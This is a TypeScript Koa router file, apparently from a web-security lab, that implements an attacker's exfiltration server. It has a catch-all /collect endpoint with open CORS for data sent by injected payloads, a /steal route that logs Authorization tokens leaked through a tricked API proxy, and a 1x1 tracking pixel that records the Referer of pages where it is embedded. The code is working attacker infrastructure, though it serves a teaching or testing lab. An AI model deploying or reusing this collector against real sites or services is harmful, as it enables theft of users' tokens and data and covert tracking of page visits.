import Router from '@koa/router';
import { bodyParser } from '@koa/bodyparser';
import { shortenSecret } from '@lab/shared';
import type { LootStore } from '../loot.ts';

/**
 * The exfiltration sink: whatever a payload sends (`fetch(..., { mode: 'no-cors' })`, a beacon, a
 * form), and the tracking pixel whose only interest is the Referer header it receives.
 */
export function createCollectRoutes(loot: LootStore): Router {
  const router = new Router();
  const body = bodyParser({ enableTypes: ['json', 'form', 'text'], jsonLimit: '64kb', textLimit: '64kb', formLimit: '64kb' });

  router.all('/collect/:label', body, (ctx) => {
    // Any origin may send: the attacker wants to receive from everywhere.
    ctx.set('Access-Control-Allow-Origin', '*');
    if (ctx.method === 'OPTIONS') {
      ctx.set('Access-Control-Allow-Headers', 'Content-Type');
      ctx.status = 204;
      return;
    }
    let data: unknown = ctx.request.body;
    if (typeof data === 'string') {
      try {
        data = JSON.parse(data);
      } catch {
        // keep the text
      }
    }
    loot.add({ channel: 'collect', label: ctx.params.label ?? 'unknown', data: data ?? ctx.query, referer: ctx.get('Referer') || undefined });
    ctx.status = 204;
  });

  // Where a leaky API proxy forwards to when tricked into naming this host (attack-proxy-token-leak):
  // whatever arrives here with an Authorization header is a token handed over. Kept shortened.
  router.all('/steal{/*rest}', (ctx) => {
    const [scheme = '', credentials = ''] = ctx.get('Authorization').split(' ', 2);
    const authorization = credentials ? `${scheme} ${shortenSecret(credentials)}` : undefined;
    loot.add({ channel: 'collect', label: 'steal', data: { method: ctx.method, path: ctx.path, authorization }, referer: ctx.get('Referer') || undefined });
    ctx.status = 204;
  });

  // A 1x1 image on someone else's page: the browser sends the page's URL as Referer.
  router.get('/pixel.gif', (ctx) => {
    loot.add({ channel: 'pixel', label: String(ctx.query.from ?? 'pixel'), data: {}, referer: ctx.get('Referer') || undefined });
    ctx.type = 'image/gif';
    ctx.body = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
  });

  return router;
}
